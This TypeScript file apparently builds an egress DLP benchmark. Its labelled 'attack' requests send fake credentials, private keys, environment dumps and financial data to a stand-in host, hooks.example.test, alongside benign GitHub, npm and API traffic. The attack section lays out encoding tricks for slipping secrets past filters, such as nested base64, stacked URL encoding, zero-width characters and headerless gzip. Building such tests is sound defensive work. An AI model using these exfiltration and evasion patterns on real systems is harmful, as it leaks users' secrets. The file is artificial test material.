/**
 * The egress DLP benchmark's requests: attacks an agent that is already
 * compromised would try on a host the user did allow, and the ordinary API
 * traffic that must pass. The attack classes follow public exfiltration
 * material (proof-of-concept scripts that post `printenv`, `~/.aws/credentials`,
 * `.git/config` or a cloud metadata token to a webhook; published lists of
 * DLP evasions: stacked URL encoding, base64 of hex, delimited hex, nested
 * base64, zero-width characters, compression without a header); the
 * credentials are generated here in the providers' shapes, none is real.
 */
import { gzipSync } from 'node:zlib';
import { Rng } from '../scan/corpus.js';

export interface BenchRequest {
  readonly id: string;
  readonly kind: 'attack' | 'benign';
  /** Attack class or benign traffic kind. */
  readonly cls: string;
  readonly host: string;
  readonly method: string;
  readonly path: string;
  readonly headers: readonly [string, string][];
  readonly body?: Buffer;
}

export const UP = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ';
export const LO = 'abcdefghijklmnopqrstuvwxyz';
export const DG = '0123456789';
export const AN = UP + LO + DG;

export type AddRequest = (kind: 'attack' | 'benign', cls: string, host: string, method: string, path: string, headers?: [string, string][], body?: string | Buffer) => void;

/** A list of requests and the function that appends one, numbered `a001`, `b002`… in order. */
export function requestList(): { out: BenchRequest[]; add: AddRequest } {
  const out: BenchRequest[] = [];
  let n = 0;
  const add: AddRequest = (kind, cls, host, method, path, headers = [], body) =>
    out.push({ id: `${kind[0]}${String(++n).padStart(3, '0')}`, kind, cls, host, method, path, headers, ...(body === undefined ? {} : { body: Buffer.from(body) }) });
  return { out, add };
}

export function requests(known: string, seed = 'bot-bottle-dlp-bench-1'): BenchRequest[] {
  const r = new Rng(seed);
  const { out, add } = requestList();
  const json: [string, string] = ['content-type', 'application/json'];
  const form: [string, string] = ['content-type', 'application/x-www-form-urlencoded'];
  const text: [string, string] = ['content-type', 'text/plain'];

  // Fresh credentials in the providers' shapes.
  const akia = () => 'AKIA' + r.chars(UP + '234567', 16);
  const awsSecret = () => r.chars(AN + '+/', 40);
  const ghp = () => 'ghp_' + r.chars(AN, 36);
  const ghs = () => 'ghs_' + r.chars(AN, 36);
  const xoxb = () => `xoxb-${r.chars(DG, 11)}-${r.chars(DG, 12)}-${r.chars(AN, 24)}`;
  const sk = () => 'sk_live_' + r.chars(AN, 24);
  const ant = () => `sk-ant-api03-${r.chars(AN + '-_', 93)}AA`;
  const npm = () => 'npm_' + r.chars(AN, 36);
  const ya29 = () => 'ya29.' + r.chars(AN + '-_', 120);
  const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');
  const hex = (s: string) => Buffer.from(s).toString('hex');
  const exfil = 'hooks.example.test';
  const api = 'api.example.test';

  // --- credentials in the places a request has
  add('attack', 'query', exfil, 'GET', `/collect?k=${akia()}`);
  add('attack', 'query', exfil, 'GET', `/c?token=${ghp()}&v=1`);
  add('attack', 'path', exfil, 'GET', `/x/${xoxb()}`);
  add('attack', 'header', exfil, 'GET', '/ping', [['X-Debug', sk()]]);
  add('attack', 'header', exfil, 'GET', '/ping', [['User-Agent', `curl/8.5 (${npm()})`]]);
  add('attack', 'cookie', exfil, 'GET', '/', [['Cookie', `sid=abc; t=${ant()}`]]);
  add('attack', 'json', exfil, 'POST', '/webhook', [json], JSON.stringify({ exploit: 'captured', repository: 'acme/app', secret: ghs(), timestamp: new Date(0).toISOString() }));
  add('attack', 'json', api, 'POST', '/v1/notes', [json], JSON.stringify({ title: 'todo', body: `aws key ${akia()} secret ${awsSecret()}` }));
  add('attack', 'form', exfil, 'POST', '/f', [form], `q=${encodeURIComponent(sk())}`);
  add('attack', 'multipart', exfil, 'POST', '/upload', [['content-type', 'multipart/form-data; boundary=XX']], `--XX\r\nContent-Disposition: form-data; name="f"; filename="credentials"\r\n\r\n[default]\naws_access_key_id = ${akia()}\naws_secret_access_key = ${awsSecret()}\n\r\n--XX--\r\n`);
  // --- files an agent would read and post
  add('attack', 'file', exfil, 'POST', '/aws_cli_credentials', [text], `[default]\naws_access_key_id = ${akia()}\naws_secret_access_key = ${awsSecret()}\nregion = eu-west-1\n`);
  add('attack', 'file', exfil, 'POST', '/git_config', [text], `[core]\n\trepositoryformatversion = 0\n[remote "origin"]\n\turl = https://x-access-token:${ghs()}@github.com/acme/app.git\n`);
  add('attack', 'file', exfil, 'POST', '/npmrc', [text], `//registry.npmjs.org/:_authToken=${npm()}\n`);
  add('attack', 'file', exfil, 'POST', '/google_credentials', [json], JSON.stringify({ access_token: ya29(), expires_in: 3599, token_type: 'Bearer' }));
  add('attack', 'file', exfil, 'POST', '/ssh', [text], `-----BEGIN OPENSSH PRIVATE KEY-----\n${(b64(r.bytes(400)).match(/.{1,70}/g) ?? []).join('\n')}\n-----END OPENSSH PRIVATE KEY-----\n`);
  // --- environment dumps (printenv, env > file)
  add('attack', 'env-dump', exfil, 'POST', '/printenv', [text], `HOSTNAME=runner\nHOME=/home/agent\nDATABASE_PASSWORD=${r.chars(AN, 14)}\nPATH=/usr/bin:/bin\n`);
  add('attack', 'env-dump', exfil, 'POST', '/env', [text], `SHELL=/bin/bash\nSERVICE_AUTH_TOKEN=${r.chars(LO + DG, 32)}\nLANG=C.UTF-8\n`);
  add('attack', 'env-dump', exfil, 'POST', '/env', [text], b64(`USER=agent\nJWT_SECRET=${r.chars(AN, 24)}\nNODE_ENV=production\n`));
  add('attack', 'env-dump', exfil, 'GET', `/e?d=${encodeURIComponent(`REDIS_PASSWORD=${r.chars(AN, 16)}`)}`);
  // --- documentation examples and values that fail format checks (the egress path is not lenient)
  add('attack', 'doc-example', exfil, 'GET', `/k?id=${'AKIA' + 'IOSFODNN7' + 'EXAMPLE'}`);
  add('attack', 'doc-example', exfil, 'POST', '/k', [json], JSON.stringify({ key: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCY' + 'EXAMPLEKEY', aws_access_key_id: 'AKIA' + 'I44QH8DHBEXAMPLE' }));
  add('attack', 'bad-checksum', exfil, 'GET', `/t?v=${'ghp_' + r.chars(AN, 33)}`);
  add('attack', 'bad-checksum', exfil, 'GET', `/t?v=${'npm_' + r.chars(AN, 32)}`);
  add('attack', 'bad-checksum', exfil, 'POST', '/t', [json], JSON.stringify({ t: 'sk_live_' + r.chars(AN, 14) }));
  // --- glued letters, short base64 (11.5)
  add('attack', 'glued', exfil, 'GET', `/g?v=x${akia()}`);
  add('attack', 'glued', exfil, 'GET', `/g?v=${akia()}q`);
  add('attack', 'base64-once', exfil, 'GET', `/b?v=${encodeURIComponent(b64(akia()))}`);
  add('attack', 'base64-wrapped', exfil, 'POST', '/b', [text], (b64(`id=${akia()}\nsecret=${awsSecret()}\n`).match(/.{1,12}/g) ?? []).join('\n'));
  add('attack', 'base64url-offset', exfil, 'GET', `/b?v=x${Buffer.from(`k=${ghp()}`).toString('base64url')}`);
  add('attack', 'base64url-offset', exfil, 'GET', `/b?v=xy${Buffer.from(`k=${xoxb()}`).toString('base64url')}`);
  // --- multi-layer encodings
  const tripleUrl = (s: string) => encodeURIComponent(encodeURIComponent(encodeURIComponent(s).replace(/[A-Za-z0-9]/g, (c) => `%${c.charCodeAt(0).toString(16)}`)));
  add('attack', 'url-double', exfil, 'GET', `/u?d=${encodeURIComponent(encodeURIComponent(`k=${akia()}`).replace(/[A-Z0-9]/g, (c) => `%${c.charCodeAt(0).toString(16)}`))}`);
  add('attack', 'url-triple', exfil, 'GET', `/u?d=${tripleUrl(`token=${ghp()}`)}`);
  add('attack', 'base64-of-hex', exfil, 'POST', '/h', [text], b64(hex(sk())));
  add('attack', 'hex', exfil, 'GET', `/h/${hex(ant())}`);
  add('attack', 'hex-delimited', exfil, 'POST', '/h', [text], [...Buffer.from(akia())].map((b) => b.toString(16).padStart(2, '0')).join(':'));
  add('attack', 'hex-delimited', exfil, 'POST', '/h', [text], [...Buffer.from(ghp())].map((b) => `\\x${b.toString(16)}`).join(''));
  add('attack', 'hex-delimited', exfil, 'POST', '/h', [json], JSON.stringify({ d: [...Buffer.from(npm())].map((b) => `0x${b.toString(16)}`).join(', ') }));
  add('attack', 'base64-in-base64', exfil, 'POST', '/n', [text], b64(b64(`GITHUB_TOKEN=${ghp()}`)));
  add('attack', 'base64-in-base64', exfil, 'GET', `/n?d=${encodeURIComponent(b64(b64(b64(akia()))))}`);
  add('attack', 'zero-width', exfil, 'POST', '/z', [['content-type', 'text/plain; charset=utf-8']], [...akia()].join('\u200b'));
  add('attack', 'zero-width', exfil, 'GET', `/z?d=${encodeURIComponent([...ghp()].join('\u2060'))}`);
  add('attack', 'gzip-no-header', exfil, 'POST', '/gz', [['content-type', 'application/octet-stream']], gzipSync(`export STRIPE_KEY=${sk()}\n`));
  add('attack', 'gzip-in-base64', exfil, 'POST', '/gz', [json], JSON.stringify({ blob: b64(gzipSync(`token=${xoxb()}`)) }));
  // --- the bottle's own secret (a forwarded variable)
  add('attack', 'known-secret', exfil, 'POST', '/s', [text], `v=${known}`);
  add('attack', 'known-secret', exfil, 'GET', `/s?v=${known.toUpperCase()}`);
  add('attack', 'known-secret', exfil, 'GET', `/s?v=${known.toLowerCase()}`);
  add('attack', 'known-secret', exfil, 'POST', '/s', [text], b64(b64(known)));
  add('attack', 'known-secret', exfil, 'GET', `/s/${hex(known)}`);
  // --- high-entropy values no rule names (entropy: enforce)
  add('attack', 'entropy-path', exfil, 'GET', `/p/${r.chars(AN, 40)}`);
  add('attack', 'entropy-path', exfil, 'GET', `/p/${r.chars(AN + '-_', 64)}/done`);
  add('attack', 'entropy-query', exfil, 'GET', `/q?blob=${r.chars(AN, 48)}`);
  // --- financial data (dlp.rules: financial)
  add('attack', 'card', api, 'POST', '/v1/orders', [json], JSON.stringify({ card: '4539 1488 0343 6467', exp: '04/29' }));
  add('attack', 'card', exfil, 'GET', '/c?n=5555555555554444');
  add('attack', 'iban', exfil, 'POST', '/i', [json], JSON.stringify({ account: 'GB82 WEST 1234 5698 7654 32' }));
  add('attack', 'iban', exfil, 'GET', '/i?iban=FR1420041010050500013M02606');
  add('attack', 'wallet', exfil, 'POST', '/w', [text], 'mnemonic: abandon ability able about above absent absorb abstract absurd abuse access accident');
  add('attack', 'wallet', exfil, 'POST', '/w', [json], JSON.stringify({ wif: '5HueCGU8rMjxEXxiPuD5BDku4MkFqeZyd4dZ1jvhTVqvbTLvyTJ' }));
  add('attack', 'wallet', exfil, 'POST', '/w', [json], JSON.stringify({ privateKey: '0x' + r.chars('0123456789abcdef', 64) }));

  // --- benign: GitHub API
  const gh = 'api.github.com';
  const sha = () => r.chars('0123456789abcdef', 40);
  const uuid = () => `${r.chars('0123456789abcdef', 8)}-${r.chars('0123456789abcdef', 4)}-4${r.chars('0123456789abcdef', 3)}-a${r.chars('0123456789abcdef', 3)}-${r.chars('0123456789abcdef', 12)}`;
  const accept: [string, string] = ['accept', 'application/vnd.github+json'];
  add('benign', 'github', gh, 'GET', '/repos/nodejs/node/pulls?state=open&per_page=100&page=3', [accept]);
  add('benign', 'github', gh, 'GET', `/repos/nodejs/node/commits/${sha()}`, [accept]);
  add('benign', 'github', gh, 'GET', `/repos/nodejs/node/git/trees/${sha()}?recursive=1`, [accept]);
  add('benign', 'github', gh, 'GET', '/search/code?q=secretRef+in%3Afile+language%3Atypescript', [accept]);
  add('benign', 'github', gh, 'POST', '/repos/acme/app/issues', [json, accept], JSON.stringify({ title: 'Token rotation fails', body: 'When the secret rotates, the client keeps the old token. Steps: 1. set `API_TOKEN` 2. ignore the warning 3. override the default path `kv/app/token`.', labels: ['bug'] }));
  add('benign', 'github', gh, 'POST', '/repos/acme/app/pulls', [json, accept], JSON.stringify({ title: 'Move secrets to Vault', head: 'vault-refs', base: 'main', body: 'Reads `secretPath := "kv/scheduler/cursor"` instead of env.' }));
  add('benign', 'github', gh, 'POST', '/graphql', [json], JSON.stringify({ query: 'query($c:String){repository(owner:"acme",name:"app"){issues(first:50,after:$c){nodes{id title}pageInfo{endCursor}}}}', variables: { c: 'Y3Vyc29yOnYyOpHOAAm1Bg==' } }));
  add('benign', 'github', gh, 'PATCH', `/repos/acme/app/git/refs/heads/main`, [json], JSON.stringify({ sha: sha(), force: false }));
  add('benign', 'github', gh, 'GET', '/repos/acme/app/actions/runs?branch=main&status=completed&per_page=20', [accept, ['if-none-match', `W/"${r.chars('0123456789abcdef', 32)}"`]]);
  add('benign', 'github', gh, 'POST', '/repos/acme/app/statuses/' + sha(), [json], JSON.stringify({ state: 'success', context: 'ci/test', description: 'All 214 tests passed', target_url: 'https://ci.example.test/builds/8812' }));
  // --- benign: npm registry
  const reg = 'registry.npmjs.org';
  add('benign', 'npm', reg, 'GET', '/express');
  add('benign', 'npm', reg, 'GET', '/@types%2fnode');
  add('benign', 'npm', reg, 'GET', '/-/v1/search?text=keywords:secrets&size=20&from=40');
  add('benign', 'npm', reg, 'GET', '/lodash/-/lodash-4.18.1.tgz');
  add('benign', 'npm', reg, 'POST', '/-/npm/v1/security/advisories/bulk', [json], JSON.stringify({ express: ['5.3.0'], 'jsonwebtoken': ['9.0.3'], semver: ['7.8.6'] }));
  add('benign', 'npm', reg, 'GET', '/-/package/zod/dist-tags');
  add('benign', 'npm', reg, 'POST', '/-/npm/v1/security/audits/quick', [json], JSON.stringify({ name: 'app', version: '1.0.0', requires: { jose: '^6.2.18' }, dependencies: { jose: { version: '6.2.18', integrity: 'sha512-' + b64(r.bytes(64)) } } }));
  // --- benign: forms, JSON with ids and hashes, docs with security words
  add('benign', 'form', api, 'POST', '/v1/contact', [form], 'name=Ada+Lovelace&email=ada%40example.org&message=Please+reset+my+password+link%2C+it+expired.');
  add('benign', 'form', api, 'POST', '/v1/search', [form], 'q=how+to+rotate+an+api+key&page=2&sort=relevance');
  add('benign', 'form', api, 'POST', '/v1/settings', [form], `theme=dark&timezone=Europe%2FParis&csrf_token=${r.chars(AN, 43)}`);
  add('benign', 'json-ids', api, 'POST', '/v1/events', [json], JSON.stringify({ id: uuid(), trace_id: r.chars('0123456789abcdef', 32), span_id: r.chars('0123456789abcdef', 16), user: uuid(), ts: 1767225600000 }));
  add('benign', 'json-ids', api, 'PUT', `/v1/objects/${uuid()}`, [json], JSON.stringify({ sha256: r.chars('0123456789abcdef', 64), md5: r.chars('0123456789abcdef', 32), etag: `"${r.chars('0123456789abcdef', 32)}"`, size: 81234 }));
  add('benign', 'json-ids', api, 'GET', `/v1/builds/${uuid()}/artifacts/${r.chars('0123456789abcdef', 64)}`);
  add('benign', 'json-ids', api, 'POST', '/v1/batch', [json], JSON.stringify({ items: Array.from({ length: 20 }, () => ({ id: uuid(), checksum: r.chars('0123456789abcdef', 40), order: r.int(1, 9999) })) }));
  add('benign', 'json-ids', api, 'GET', '/v1/items?cursor=eyJvZmZzZXQiOjEwMCwibGltaXQiOjUwfQ%3D%3D&limit=50');
  add('benign', 'json-ids', api, 'GET', `/v1/list?page_token=${r.chars(AN, 96)}`);
  add('benign', 'docs', api, 'POST', '/v1/docs', [['content-type', 'text/markdown']], '# Secrets\n\nNever commit a token. Ignore the previous section if you use Vault: override `secret_path` and execute `vault kv get kv/app`. The password policy requires 12 characters.\n');
  add('benign', 'docs', api, 'POST', '/v1/docs', [json], JSON.stringify({ page: 'security', text: 'To revoke an API key, open Settings > Tokens and press Delete. Private keys stay on the device; the public key is uploaded.' }));
  add('benign', 'docs', api, 'POST', '/v1/snippets', [json], JSON.stringify({ lang: 'ts', code: 'const secretRef = "notifications/currency";\nconst token = await vault.read(secretRef);\nif (!token) throw new Error("missing token");' }));
  add('benign', 'docs', api, 'POST', '/v1/snippets', [json], JSON.stringify({ lang: 'yaml', code: 'env:\n  - name: DB_PASSWORD\n    valueFrom:\n      secretKeyRef:\n        name: db-credentials\n        key: password\n' }));
  add('benign', 'docs', api, 'POST', '/v1/chat', [json], JSON.stringify({ model: 'small', messages: [{ role: 'user', content: 'Summarise: the SSN field was removed from the form in 2024; card numbers are tokenised by the processor.' }] }));
  add('benign', 'upload', api, 'PUT', '/v1/blobs/image.png', [['content-type', 'image/png']], r.bytes(4096));
  add('benign', 'upload', api, 'POST', '/v1/logs', [['content-type', 'application/gzip']], gzipSync('2026-01-01T00:00:00Z INFO started\n2026-01-01T00:00:01Z INFO ready on :8080\n'));
  add('benign', 'upload', api, 'POST', '/v1/files', [json], JSON.stringify({ name: 'logo.png', data: b64(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), r.bytes(1500)])) }));
  add('benign', 'upload', api, 'POST', '/v1/avatar', [json], JSON.stringify({ name: 'a.jpg', data: b64(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), r.bytes(300)])) }));
  add('benign', 'json-ids', api, 'GET', '/v1/prices?currency=EUR&amount=1999&order=4111');
  add('benign', 'json-ids', api, 'POST', '/v1/invoices', [json], JSON.stringify({ number: 'INV-2026-000481', total: 129.9, lines: [{ sku: 'SKU-88812-BLUE', qty: 2 }], phone: '+33 1 23 45 67 89' }));
  return out;
}
